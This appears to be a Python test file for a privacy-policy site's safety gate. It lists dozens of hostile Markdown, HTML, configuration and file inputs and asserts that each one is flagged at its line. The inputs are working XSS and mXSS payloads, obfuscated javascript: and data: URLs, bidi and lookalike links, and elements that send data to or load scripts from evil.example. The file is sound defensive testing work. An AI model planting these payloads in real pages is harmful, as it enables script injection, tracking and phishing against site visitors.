"""Safety hunt 82: a fresh attack catalogue against the gate, each input one hostile text, configuration or file a
company might commit, and the finding it must give at its file and line.

Two readings of each Markdown input: `policy check`'s (the same checks the gate runs on a version's commit before
`policy publish` or `policy history` builds it), and the output check's on the page as the site's Markdown renders it
(the published HTML, parsed as a browser parses it: what a version another tool built, or one whose source findings
were softened, still meets). The classes tried: attribute lists on every element the site's extensions write
(headings, cells, images, links, paragraphs), raw HTML that a browser reads otherwise than a pattern (mXSS through SVG
and MathML, a <noscript> closed inside an attribute, comments and CDATA), schemes written with references, a link's
words against where it goes, the theme's own classes and ARIA attributes, the configuration's shown settings,
extensions, theme files and a page's front matter, files beside the page. What got through the output check was
fixed there (safety.theme_hiding_classes, safety.unspoken; a handler or a frame in the text said at its section's
line, not the front matter's: safety.sections_of; a comment left open: safety.open_comments). A later section's own
date line, another than the version's, is `policy check`'s now (checks.later_date_lines)."""
from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path

import markdown
import pytest

from helpers import git, one_language_project
from policysite import checks, css_rules, datelines, document, gate, rendering, safety
from unit.test_safety import THEME, page

PAGE = "docs/en/index.md"
CLAUSE = "We sell your data to anyone."
# The page every input is written into: its §2 starts at line 11, the input at line 13.
HEAD = ("---\ndate: 2024-05-01\n---\n\n# Example privacy policy\n\n## 1. First section\n\nAlpha paragraph one.\n\n"
        "## 2. Second section\n\n")
SECTION, WRITTEN = 11, 13

# (input, Markdown written into §2, (line, rule) `policy check` refuses it by, (line, key) the output check refuses
# the published page by, or None where the build publishes nothing unsafe of it)
MARKDOWN = [
    # attribute lists on each element the site's Markdown writes
    ("heading handler", '## 3. Data {: onclick="alert(1)" }\n\nText here.', (13, "editorial.html"),
     (13, "output.handler")),
    ("table cell handler", '| A | B |\n|---|---|\n| one {: onclick="x()" } | two |', (15, "editorial.html"),
     (SECTION, "output.handler")),
    ("image onerror", '![Logo](logo.png){: onerror="alert(1)" }', (13, "editorial.html"), (SECTION, "output.handler")),
    ("link ping", '[the site](https://example.test/){: ping="https://evil.example/p" }', (13, "editorial.html"),
     (SECTION, "output.attribute")),
    ("image srcset of another host", '![Logo](logo.png){: srcset="https://evil.example/a.png 1x" }',
     (13, "editorial.html"), (SECTION, "output.srcset")),
    ("link formaction", '[the site](https://example.test/){: formaction="https://evil.example/" }',
     (13, "editorial.html"), (SECTION, "output.attribute")),
    ("xlink:href key", 'Text *x*{: xlink:href="javascript:alert(1)" }.', (13, "editorial.html"),
     (SECTION, "output.script-url")),
    ("title with a direction override", 'Text *here*{: title="&#x202E;tsol era atad ruoY" }.',
     (13, "editorial.bidi"), (SECTION, "output.override")),
    ("theme id on a heading", "## 3. Data {: #__search }\n\nText.", (13, "editorial.html"), (13, "output.theme-id")),
    # the theme's classes that hide words, and what a screen reader says in their place
    ("theme class not drawn (tabbed-block)", f"{CLAUSE}\n{{: .tabbed-block }}", (14, "editorial.html"),
     (SECTION, "output.theme-hiding")),
    ("theme class transparent (headerlink)", f"Text *{CLAUSE}*{{: .headerlink }} more.", (13, "editorial.html"),
     (SECTION, "output.theme-hiding")),
    ("theme class of no size (footnote-backref)", f"Text *{CLAUSE}*{{: .footnote-backref }} more.",
     (13, "editorial.html"), (SECTION, "output.theme-hiding")),
    ("aria-hidden words", f'{CLAUSE}\n{{: aria-hidden="true" }}', (14, "editorial.html"),
     (SECTION, "output.aria-hidden")),
    ("aria-label in place of a link's words", '[the site](https://evil.example/){: aria-label="The regulator" }',
     (13, "editorial.html"), (13, "output.aria-words")),
    ("role naming words by a label only", f'{CLAUSE}\n{{: role="img" }}', (14, "editorial.html"),
     (SECTION, "output.aria-role")),
    ("aria-hidden paragraph", f'<p aria-hidden="true">{CLAUSE}</p>', (13, "editorial.html"),
     (SECTION, "output.aria-hidden")),
    ("aria-label link", '<a href="https://evil.example/" aria-label="The regulator">the regulator</a>',
     (13, "editorial.html"), (13, "output.aria-words")),
    # raw HTML a browser reads otherwise than a pattern does
    ("base element", '<base href="https://evil.example/">\n\nText.', (13, "editorial.html"),
     (SECTION, "output.forbidden")),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\nText.',
     (13, "editorial.html"), (SECTION, "output.refresh-foreign")),
    ("form and button", '<form action="https://evil.example/"><input name="e"><button>Send</button></form>',
     (13, "editorial.html"), (SECTION, "output.forbidden/text")),
    ("iframe srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', (13, "editorial.html"),
     (SECTION, "output.forbidden")),
    ("svg use of another file", '<p><svg><use href="https://evil.example/a.svg#x"/></svg></p>',
     (13, "editorial.html"), (SECTION, "output.use-file")),
    ("svg style mXSS", "<svg><style><img src=x onerror=alert(1)></style></svg>", (13, "editorial.html"),
     (SECTION, "output.handler")),
    ("MathML mglyph style mXSS",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
     (13, "editorial.html"), (SECTION, "output.style-element")),
    ("noscript closed inside an attribute", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p>'
     "</noscript>", (13, "editorial.html"), (SECTION, "output.handler")),
    ("template content", "<template><img src=x onerror=alert(1)></template>", (13, "editorial.html"),
     (SECTION, "output.template")),
    ("declarative shadow root", f'<div><template shadowrootmode="open"><slot></slot></template><p>{CLAUSE}</p></div>',
     (13, "editorial.html"), (SECTION, "output.template")),
    ("comment closed at once", "<!--> <img src=x onerror=alert(1)> -->", (13, "editorial.html"),
     (SECTION, "output.handler")),
    ("CDATA in HTML content", "Text <![CDATA[><img src=x onerror=alert(1)>]]> end.", (13, "editorial.html"),
     (SECTION, "output.handler")),
    ("svg a xlink:href script", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
     (13, "editorial.html"), (SECTION, "output.script-url")),
    ("MathML href", '<math href="javascript:alert(1)"><mi>x</mi></math>', (13, "editorial.html"),
     (SECTION, "output.script-url")),
    ("image map area of another host", '<img src="logo.png" usemap="#m"><map name="m"><area shape="rect" '
     'coords="0,0,999,999" href="https://evil.example/"></map>', (13, "editorial.html"),
     (SECTION, "output.text-attribute")),
    ("object data", '<object data="https://evil.example/x.pdf"></object>', (13, "editorial.html"),
     (SECTION, "output.loads/third-party")),
    ("link prefetch", '<link rel="prefetch" href="https://evil.example/">', (13, "editorial.html"),
     (SECTION, "output.link-loads")),
    ("style element", "<style>p{display:none}</style>", (13, "editorial.html"), (SECTION, "output.style-element")),
    ("font colour", f'<font color="#ffffff">{CLAUSE}</font>', (13, "editorial.html"),
     (SECTION, "output.text-attribute")),
    ("article closed early", f"Text.\n\n</article></div>\n\n{CLAUSE}", (15, "editorial.html"), (1, "output.escaped")),
    # schemes written with references, controls or brackets
    ("tab reference in a scheme (Markdown)", "[click](jav&#x09;ascript:alert(1))", (13, "editorial.html"),
     (13, "link.scheme-other")),
    ("tab reference in a scheme (HTML)", '<a href="jav&#x09;ascript:alert(1)">click</a>', (13, "editorial.html"),
     (SECTION, "output.script-url")),
    ("named colon reference", "[click](javascript&colon;alert(1))", (13, "editorial.html"),
     (SECTION, "output.script-url")),
    ("reference definition to a script", "See [the form][f].\n\n[f]: javascript:alert(1)", (15, "editorial.html"),
     (SECTION, "output.script-url")),
    ("angle-bracket destination", "[click](<javascript:alert(1)>)", (13, "editorial.html"),
     (SECTION, "output.script-url")),
    ("data link", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", (13, "editorial.html"),
     (SECTION, "output.script-url")),
    ("raw tab in a scheme (Markdown writes spaces: a path)", '<a href="java\tscript:alert(1)">x</a>',
     (13, "editorial.html"), None),
    # a link's words against where it goes; words drawn otherwise than written
    ("direction override in a link's words", "[\u202egnp.exe](https://example.test/)", (13, "editorial.bidi"),
     (13, "output.override")),
    ("direction override reference", "We keep data &#x202E;syad 03&#x202C; only.", (13, "editorial.bidi"),
     (SECTION, "output.override")),
    ("punycode lookalike under a Latin name", "[dialonce.fr](https://xn--dialnce-2ve.fr/)",
     (13, "editorial.link-text"), (13, "link.shows-address-goes")),
    ("host under another", "[www.cnil.fr](https://www.cnil.fr.evil.example/)", (13, "editorial.link-text"),
     (13, "link.shows-address-goes")),
    ("user name before the host", "[https://www.cnil.fr](https://www.cnil.fr@evil.example/)",
     (13, "editorial.link-text"), (13, "link.user")),
    ("tooltip the page does not show", f'<abbr title="{CLAUSE}">GDPR</abbr> applies.', (13, "editorial.tooltip"),
     (13, "output.tooltip")),
    ("image of another host", "![pixel](https://evil.example/pixel.png)", (13, "editorial.image"),
     (SECTION, "output.loads/third-party")),
    # a section saying another date than the version's, as the text's own
    ("effective date line in a later section", "Effective date: 1 March 2020.", (13, "structure.date-stated"), None),
    ("the text naming its own update", "This policy was last updated on 1 March 2020.", (13, "structure.date-stated"),
     None),
    ("the text taking effect on another day", "La présente politique est entrée en vigueur le 1er mars 2020.",
     (13, "structure.date-stated"), None),
    ("comment left open (Markdown escapes it: shown as written)",
     # (at the line writing the words shown, "<!-- hidden": not the line of the last word read before them, safety84)
     f"Text before.\n\n<!-- hidden\n\n{CLAUSE}\n\n## 3. Third section\n\nMore text.", (15, "render.read-apart"), None),
]

# (input, files written or edited in the project: a path and its new text, or (old, new) replaced once, (file, line,
# rule) `policy check` refuses it by): what the theme prints or loads around the text, the extensions that would read
# it otherwise, the page's front matter, files beside the page
FRONT = "---\ndate: 2024-05-01\n{}\n---\n\n# Example privacy policy\n\n## 1. First section\n\nAlpha.\n"
CONFIGURED = [
    ("copyright as HTML", {"mkdocs.yml": ("copyright: Example Org", "copyright: 'Example Org <script>x()</script>'")},
     ("mkdocs.yml", 7, "config.refused")),
    ("site name as HTML", {"mkdocs.yml": ("site_name: Example Org privacy policy",
                                          "site_name: 'Example Org <img src=x onerror=alert(1)>'")},
     ("mkdocs.yml", 3, "config.refused")),
    ("extra analytics", {"mkdocs.yml": ("extra:\n", "extra:\n  analytics:\n    provider: google\n    property: G-X\n")},
     ("mkdocs.yml", 47, "config.refused")),
    ("extra homepage of another host", {"mkdocs.yml": ("extra:\n", "extra:\n  homepage: https://evil.example/\n")},
     ("mkdocs.yml", 47, "config.refused")),
    ("extra_css of another host", {"mkdocs.yml": ("extra_css:\n", "extra_css:\n  - https://evil.example/a.css\n")},
     ("mkdocs.yml", 33, "config.refused")),
    ("extra_javascript of another host", {"mkdocs.yml": ("extra_javascript:\n",
                                                         "extra_javascript:\n  - https://evil.example/a.js\n")},
     ("mkdocs.yml", 35, "config.refused")),
    ("theme logo of another host", {"mkdocs.yml": ("  favicon: assets/images/favicon.svg",
                                                   "  favicon: assets/images/favicon.svg\n  logo: https://evil.example/l.png")},
     ("mkdocs.yml", 19, "config.refused")),
    ("theme palette", {"mkdocs.yml": ("  features:\n", "  palette:\n    scheme: slate\n  features:\n")},
     ("mkdocs.yml", 19, "config.refused")),
    ("md_in_html extension", {"mkdocs.yml": ("  - sane_lists", "  - sane_lists\n  - md_in_html")},
     ("mkdocs.yml", 45, "config.refused")),
    ("pymdownx.snippets extension", {"mkdocs.yml": ("  - sane_lists", "  - sane_lists\n  - pymdownx.snippets")},
     ("mkdocs.yml", 45, "config.refused")),
    ("nav to another host", {"mkdocs.yml": ("extra:\n", "nav:\n  - Policy: index.md\n  - Terms: https://evil.example/\n"
                                                          "extra:\n")}, ("mkdocs.yml", 46, "config.refused")),
    ("a hook of the project's own", {"mkdocs.yml": ("  - hooks/policy.py", "  - hooks/policy.py\n  - hooks/evil.py"),
                                     "hooks/evil.py": "def on_page_content(html, **kw):\n    return html\n"},
     ("mkdocs.yml", 31, "config.refused")),
    ("custom_dir template writing a script", {"overrides/main.html": ('{% extends "base.html" %}',
                                                                      '{% extends "base.html" %}\n{% block scripts %}'
                                                                      "{{ super() }}<script>x()</script>{% endblock %}")},
     ("mkdocs.yml", 16, "config.refused")),
    ("custom_dir partial of the header", {"overrides/partials/header.html": '<a href="https://evil.example/">Sign in</a>\n'},
     ("mkdocs.yml", 16, "config.refused")),
    ("front matter template", {PAGE: FRONT.format("template: 404.html")}, (PAGE, 3, "frontmatter.key")),
    ("front matter hide", {PAGE: FRONT.format("hide:\n  - toc")}, (PAGE, 3, "frontmatter.key")),
    ("front matter title as HTML", {PAGE: FRONT.format("title: '<img src=x onerror=alert(1)>'")},
     (PAGE, 3, "frontmatter.markup")),
    ("an HTML file beside the page", {"docs/en/extra.html": "<script>alert(1)</script>\n"},
     ("docs/en/extra.html", 1, "source.unpublished-file")),
    ("an SVG with a script beside the page", {"docs/en/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>'
                                                                  "alert(1)</script></svg>\n"},
     ("docs/en/logo.svg", 1, "source.unpublished-file")),
    ("a file named as markup", {"docs/en/<img src=x onerror=alert(1)>.png": "x"},
     ("docs/en/<img src=x onerror=alert(1)>.png", 1, "source.unpublished-file")),
    ("a CNAME beside the page", {"docs/en/CNAME": "evil.example\n"}, ("docs/en/CNAME", 1, "source.unpublished-file")),
]


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Example Org's English site, a repository (`policy check` lists the files beside a page by git)."""
    root = one_language_project(tmp_path_factory.mktemp("safety82") / "site")
    git(root, "init", "-q", "-b", "main")
    return root


def _checked(root: Path) -> set[tuple[str, int, str]]:
    """`policy check`'s blocking findings of the project at `root` (path, line, rule)."""
    return {(f.path, f.line, f.rule) for f in checks.check_project(root=root, today=dt.date(2024, 6, 1))
            if f.severity == "error"}


def _published(markdown_text: str) -> set[tuple[int, str]]:
    """The output check's findings of the page the site's Markdown renders `markdown_text` into, as (line on the
    Markdown page, message key)."""
    body = document.FRONT_MATTER.sub("", markdown_text, count=1)
    renderer = markdown.Markdown(extensions=["toc", *rendering.EXTENSIONS],
                                 extension_configs={"toc": {"permalink": True, "slugify": document.slugify}})
    article = renderer.convert(body).split("\n", 1)[1]  # (the title: the page's own, not the article's)
    html = page(article).replace('<h2 id="s2">2. Section</h2>', "")
    violations = safety.check_page(html, file="en/2024-05-01/index.html", theme_dirs=THEME)
    return {(f.line, dict(f.fields)["message"].key) for f in gate.output_findings(
        violations, page=PAGE, text=markdown_text, lang="en")}


@pytest.mark.parametrize(("written", "said"), [(text, said) for _name, text, said, _out in MARKDOWN],
                         ids=[name for name, *_rest in MARKDOWN])
def test_policy_check_refuses_each_hostile_text_at_its_line(project, tmp_path, written, said):
    root = shutil.copytree(project, tmp_path / "site")
    (root / PAGE).write_text(HEAD + written + "\n", encoding="utf-8")
    line, rule = said
    assert (PAGE, line, rule) in _checked(root)


@pytest.mark.parametrize(("files", "said"), [(files, said) for _name, files, said in CONFIGURED],
                         ids=[name for name, *_rest in CONFIGURED])
def test_policy_check_refuses_each_hostile_setting_or_file_at_its_line(project, tmp_path, files, said):
    root = shutil.copytree(project, tmp_path / "site")
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(text, tuple):
            old, new = text
            assert old in path.read_text(encoding="utf-8"), old
            text = path.read_text(encoding="utf-8").replace(old, new, 1)
        path.write_text(text, encoding="utf-8")
    assert said in _checked(root)


@pytest.mark.parametrize(("written", "said"), [(text, said) for _name, text, _src, said in MARKDOWN],
                         ids=[name for name, *_rest in MARKDOWN])
def test_the_output_check_refuses_each_on_the_published_page_at_its_line(written, said):
    found = _published(HEAD + written + "\n")
    if said is None:  # (the build writes nothing unsafe of it: `policy check` refuses its source above)
        assert not {key for _line, key in found if key.startswith("output.")}, found
    else:
        assert said in found, found


def test_a_page_of_safe_text_gives_the_output_check_nothing():
    """The catalogue's page itself, with a link, a table and a tooltip the page shows, publishes."""
    text = HEAD + ("We keep [records](https://example.test/) one year.\n\n| A | B |\n|---|---|\n| one | two |\n\n"
                   '<abbr title="General Data Protection Regulation">GDPR</abbr> applies.\n')
    assert _published(text) == set()


def test_the_themes_hiding_classes_are_read_from_its_stylesheet():
    """Material's content classes whose rules hide an element's words; not one whose pseudo-element alone is hidden
    or drawn (`.keys .key-alt:before`), nor one a rule shows (`:hover > .headerlink { opacity: 1 }`)."""
    assert {"tabbed-block", "headerlink", "footnote-backref"} <= safety.theme_hiding_classes()
    assert "keys" not in safety.theme_hiding_classes() and "admonition" not in safety.theme_hiding_classes()
    css = (".a .x { display: none } .b:hover > .y { opacity: 1 } .c .z:before { display: none }\n"
           "@media print { .p { visibility: hidden } } .q { font-size: 0 } .r { font-size: 0.8rem } .s>.t{opacity:0}")
    assert css_rules.hiding_classes(css) == {"x", "p", "q", "t"}


def test_the_headings_permalink_keeps_its_class():
    """The "¶" the site's toc writes last in each heading, `headerlink` and aria-hidden, passes: its class is the
    theme's transparent one, and its one character no word."""
    html = page('<h3 id="s2-1">2.1 Data<a class="headerlink" aria-hidden="true" tabindex="-1" href="#s2-1" '
                'title="Permanent link">¶</a></h3><p>Text.</p>')
    assert safety.check_page(html, file="en/2024-05-01/index.html", theme_dirs=THEME) == []


@pytest.mark.parametrize("sentence", [
    "Effective date: 1 March 2020.", "Updated 1 March 2020.", "In force since 1 March 2020.",
    "Date of last revision: 1 March 2020.", "This privacy policy is effective as of March 1, 2020.",
    "Dernière mise à jour : 1er mars 2020.", "Stand: März 2024", "**Laatst bijgewerkt:** 1 september 2023",
])
def test_a_date_line_of_the_text_is_one(sentence):
    assert datelines.date_line(sentence)


@pytest.mark.parametrize("sentence", [
    "The GDPR has been in force since 25 May 2018.", "Le RGPD est en vigueur depuis le 25 mai 2018.",
    "The law applies from 1 March 2020.", "Data collected before 1 March 2020 is deleted.",
    "Contracts signed before 1 March 2020 remain in force.", "We updated our cookie list on 1 March 2020.",
])
def test_a_law_s_or_a_deadline_s_date_is_no_date_line(sentence):
    assert not datelines.date_line(sentence)


@pytest.mark.parametrize("written", [
    "Effective date: 1 May 2024.",  # (the version's own date)
    "Data collected before 1 March 2020 is deleted.",
    "- Updated 1 March 2020: section 4 added.\n- Updated 1 May 2024: section 5 added.",  # (a history of versions)
    "Effective date: 1 March 2020. Before that day, the former text applied to every account we held.",
])
def test_a_later_section_s_other_dates_pass(project, tmp_path, written):
    root = shutil.copytree(project, tmp_path / "site")
    (root / PAGE).write_text(HEAD + written + "\n", encoding="utf-8")
    assert not {finding for finding in _checked(root) if finding[2] == "structure.date-stated"}


def test_a_closed_comment_passes_and_one_left_open_is_said():
    """A comment of the text closed where it is (words a browser does not show, but the page's end it does) is the
    Markdown's own; one running past the article's end hides the rest of the page: Python-Markdown writes an open one
    as text (`&lt;!--`), another generator's page, or a page edited on the branch, may hold it as it is."""
    closed = page("<p>Text.</p><!-- a note --><p>More.</p>")
    assert safety.check_page(closed, file="en/2024-05-01/index.html", theme_dirs=THEME) == []
    left = page("<p>Text.</p><!-- a note <p>More.</p>")
    said = safety.check_page(left, file="en/2024-05-01/index.html", theme_dirs=THEME)
    assert [(v.anchor, v.message.key) for v in said if v.message.key == "output.comment-open"] == [("s2", "output.comment-open")]
